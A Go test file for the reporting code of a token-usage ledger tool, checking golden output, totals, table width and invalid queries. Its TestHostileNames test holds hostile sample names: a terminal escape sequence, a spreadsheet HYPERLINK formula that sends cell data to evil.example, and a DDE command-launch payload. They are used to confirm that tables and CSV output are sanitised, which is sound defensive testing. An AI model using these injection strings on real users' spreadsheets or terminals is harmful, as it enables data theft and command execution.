package report_test

import (
	"bytes"
	"context"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
	"github.com/tokenmeter/tokenmeter"
	"github.com/tokenmeter/tokenmeter/internal/report"
	"github.com/tokenmeter/tokenmeter/internal/sqlite"
	"github.com/tokenmeter/tokenmeter/internal/storetest"
)

var update = flag.Bool("update", false, "rewrite golden files in testdata/")

// fixture is a small ledger: calls on three UTC days, two models, two
// principals and three projects, three sessions and calls without one, one
// crash-cut call and one unpriced model.
func fixture(t *testing.T) *sqlite.DB {
	t.Helper()
	db := sqlite.NewDB(filepath.Join(t.TempDir(), "ledger.db"))
	if err := db.Open(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	d := func(day, hour, min int) time.Time { return time.Date(2026, 11, day, hour, min, 0, 0, time.UTC) }
	mk := func(id string, at time.Time, model, who, project string, u tokenmeter.Usage, cost int64) tokenmeter.Event {
		ev := storetest.Event(id, at, u)
		ev.Model, ev.Principal, ev.Project, ev.Cost = model, who, project, tokenmeter.Micros(cost)
		return ev
	}
	unknown := mk("c5", d(28, 23, 50), "claude-opus-5-5", "cred:aaaa", "", tokenmeter.Usage{InputTokens: 300}, 1200)
	unknown.Outcome = tokenmeter.OutcomeUnknown
	unpriced := mk("c6", d(29, 1, 0), "mystery-model", "cred:bbbb", "web", tokenmeter.Usage{InputTokens: 5, OutputTokens: 5}, 0)
	unpriced.CostKnown = false
	unknown.Session, unpriced.Session = "77aa1b2c-3d4e-4f50-8a6b-7c8d9e0f1a2b", "77aa1b2c-3d4e-4f50-8a6b-7c8d9e0f1a2b"
	c1 := mk("c1", d(27, 10, 0), "claude-sonnet-5-5", "cred:aaaa", "api", tokenmeter.Usage{InputTokens: 100, OutputTokens: 200, CacheWrite5mTokens: 10, CacheWrite1hTokens: 20, CacheReadTokens: 1000}, 2_500_000)
	c2 := mk("c2", d(27, 23, 30), "claude-opus-5-5", "cred:bbbb", "api", tokenmeter.Usage{InputTokens: 1, OutputTokens: 2}, 44)
	c3 := mk("c3", d(28, 0, 15), "claude-sonnet-5-5", "cred:aaaa", "web", tokenmeter.Usage{InputTokens: 10, OutputTokens: 20}, 250)
	c1.Session, c3.Session = "4f1c2d3e-5a6b-4c7d-8e9f-0a1b2c3d4e5f", "4f1c2d3e-5a6b-4c7d-8e9f-0a1b2c3d4e5f"
	c2.Session = "9b8a7c6d-0000-4111-8222-333344445555"
	c2.Project = "/home/dev/src/github.com/example/a-rather-long-project-name"
	events := []tokenmeter.Event{
		c1, c2, c3,
		mk("c4", d(28, 12, 0), "claude-sonnet-5-5", "cred:bbbb", "web", tokenmeter.Usage{InputTokens: 1_500_000, OutputTokens: 30_000}, 3_450_000),
		unknown, unpriced,
	}
	if _, err := db.Append(context.Background(), events); err != nil {
		t.Fatal(err)
	}
	return db
}

var now = time.Date(2026, 11, 29, 12, 0, 0, 0, time.UTC)

// blocksNow is inside the fixture's last block, which is then active.
var blocksNow = time.Date(2026, 11, 29, 2, 0, 0, 0, time.UTC)

func TestGolden(t *testing.T) {
	db := fixture(t)
	berlin, _ := time.LoadLocation("Europe/Berlin")
	tests := []struct {
		name string
		q    report.Query
		now  time.Time
	}{
		{"daily_utc", report.Query{Kind: report.Daily, Loc: time.UTC}, now},
		{"daily_berlin", report.Query{Kind: report.Daily, Loc: berlin}, now},
		{"daily_by_model", report.Query{Kind: report.Daily, By: report.ByModel, Loc: time.UTC}, now},
		{"weekly", report.Query{Kind: report.Weekly, Loc: time.UTC}, now},
		{"monthly_by_key", report.Query{Kind: report.Monthly, By: report.ByKey, Loc: time.UTC}, now},
		{"models", report.Query{Kind: report.Models, Loc: time.UTC}, now},
		{"daily_since_until", report.Query{Kind: report.Daily, Loc: time.UTC, By: report.ByProject,
			Since: time.Date(2026, 11, 28, 0, 0, 0, 0, time.UTC), Until: time.Date(2026, 11, 28, 0, 0, 0, 0, time.UTC)}, now},
		{"session", report.Query{Kind: report.Session, Loc: time.UTC}, now},
		{"session_by_model", report.Query{Kind: report.Session, By: report.ByModel, Loc: berlin}, now},
		{"session_since", report.Query{Kind: report.Session, Loc: time.UTC, Since: time.Date(2026, 11, 28, 0, 0, 0, 0, time.UTC)}, now},
		{"blocks", report.Query{Kind: report.Blocks, Loc: time.UTC}, blocksNow},
		{"blocks_berlin_done", report.Query{Kind: report.Blocks, Loc: berlin}, now},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rep, err := report.Build(context.Background(), db, tt.q, tt.now)
			if err != nil {
				t.Fatal(err)
			}
			var out bytes.Buffer
			out.WriteString("== table\n")
			report.Table(&out, rep)
			out.WriteString("== csv\n")
			report.CSV(&out, rep)
			out.WriteString("== json\n")
			report.JSON(&out, rep)
			golden := filepath.Join("testdata", tt.name+".golden")
			if *update {
				os.MkdirAll("testdata", 0o755)
				if err := os.WriteFile(golden, out.Bytes(), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatalf("%v (run go test -update to create it)", err)
			}
			if diff := cmp.Diff(string(want), out.String()); diff != "" {
				t.Errorf("report %s differs from %s (-want +got):\n%s", tt.name, golden, diff)
			}
		})
	}
}

// TestTotals checks the sums against the fixture independently of the
// golden files.
func TestTotals(t *testing.T) {
	db := fixture(t)
	rep, err := report.Build(context.Background(), db, report.Query{Kind: report.Daily, Loc: time.UTC}, now)
	if err != nil {
		t.Fatal(err)
	}
	got := rep.Totals
	if got.InputTokens != 1_500_416 || got.OutputTokens != 30_227 || got.CacheCreationInputTokens != 30 ||
		got.CacheReadInputTokens != 1000 || got.Requests != 6 || got.CostMicros != 5_951_494 ||
		got.OutcomeUnknown != 1 || got.CostUnknown != 1 {
		t.Errorf("totals = %+v", got)
	}
	if got.TotalTokens != got.InputTokens+got.OutputTokens+got.CacheCreationInputTokens+got.CacheReadInputTokens {
		t.Errorf("total_tokens %d is not the sum of the categories", got.TotalTokens)
	}
	var sum int64
	for _, r := range rep.Rows {
		sum += r.Requests
	}
	if sum != got.Requests || len(rep.Rows) != 3 {
		t.Errorf("%d rows summing to %d requests; want 3 days summing to the totals' %d", len(rep.Rows), sum, got.Requests)
	}
	b, _ := json.Marshal(rep)
	var generic map[string]any
	json.Unmarshal(b, &generic)
	for _, key := range []string{"rows", "totals"} {
		if _, ok := generic[key]; !ok {
			t.Errorf("report JSON lacks %q", key)
		}
	}
	row := generic["rows"].([]any)[0].(map[string]any)
	for _, key := range []string{"period", "input_tokens", "output_tokens", "cache_creation_input_tokens", "cache_read_input_tokens", "requests", "cost_usd"} {
		if _, ok := row[key]; !ok {
			t.Errorf("report row JSON lacks the fixed field %q", key)
		}
	}
	if _, ok := row["cost_usd"].(float64); !ok {
		t.Errorf("cost_usd is %T, want a number", row["cost_usd"])
	}
}

// TestTableWidth checks that every table in the golden files fits 80
// columns.
func TestTableWidth(t *testing.T) {
	files, _ := filepath.Glob(filepath.Join("testdata", "*.golden"))
	if len(files) == 0 {
		t.Fatal("no golden files")
	}
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		table, _, ok := strings.Cut(string(b), "== csv\n")
		if !ok {
			continue
		}
		for n, line := range strings.Split(table, "\n") {
			if w := utf8.RuneCountInString(line); w > report.Width {
				t.Errorf("%s:%d is %d characters wide, more than %d:\n%s", f, n+1, w, report.Width, line)
			}
			if strings.HasSuffix(line, " ") {
				t.Errorf("%s:%d has trailing spaces", f, n+1)
			}
		}
	}
}

func TestBadQuery(t *testing.T) {
	db := fixture(t)
	for _, q := range []report.Query{{Kind: "hourly"}, {Kind: report.Daily, By: "colour"}, {Kind: report.Blocks, By: report.ByModel},
		{Kind: report.Daily, Since: now, Until: now.AddDate(0, 0, -1)}} {
		if _, err := report.Build(context.Background(), db, q, now); tokenmeter.ErrorCode(err) != tokenmeter.EINVALID {
			t.Errorf("Build(%+v) error = %v, want EINVALID", q, err)
		}
	}
}

// TestHostileNames: model, project and session names chosen by clients
// reach tables without control characters (an escape sequence would
// recolour or clear the reader's terminal) and CSV as cells a spreadsheet
// does not evaluate (issue 13 item 6).
func TestHostileNames(t *testing.T) {
	db := sqlite.NewDB(filepath.Join(t.TempDir(), "ledger.db"))
	if err := db.Open(); err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	at := time.Date(2026, 11, 28, 10, 0, 0, 0, time.UTC)
	ev := storetest.Event("h1", at, tokenmeter.Usage{InputTokens: 10, OutputTokens: 5})
	ev.Model, ev.Project, ev.Session = "\x1b[2J\x1b]0;owned\x07claude", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0"
	ev.CostKnown = false
	if _, err := db.Append(context.Background(), []tokenmeter.Event{ev}); err != nil {
		t.Fatal(err)
	}
	for _, q := range []report.Query{
		{Kind: report.Daily, By: report.ByModel, Loc: time.UTC},
		{Kind: report.Daily, By: report.ByProject, Loc: time.UTC},
		{Kind: report.Models, Loc: time.UTC},
		{Kind: report.Session, Loc: time.UTC},
		{Kind: report.Blocks, Loc: time.UTC},
	} {
		rep, err := report.Build(context.Background(), db, q, at.Add(time.Hour))
		if err != nil {
			t.Fatal(err)
		}
		var table, csv bytes.Buffer
		report.Table(&table, rep)
		report.CSV(&csv, rep)
		if strings.ContainsAny(table.String(), "\x1b\x07") {
			t.Errorf("%s by %q: the table carries control characters:\n%q", q.Kind, q.By, table.String())
		}
		for _, line := range strings.Split(csv.String(), "\n") {
			for _, cell := range strings.Split(line, ",") {
				if c := strings.TrimPrefix(cell, `"`); c != "" && strings.ContainsRune("=+@\t\r", rune(c[0])) {
					t.Errorf("%s by %q: CSV cell %q starts a formula", q.Kind, q.By, cell)
				}
			}
		}
	}
}
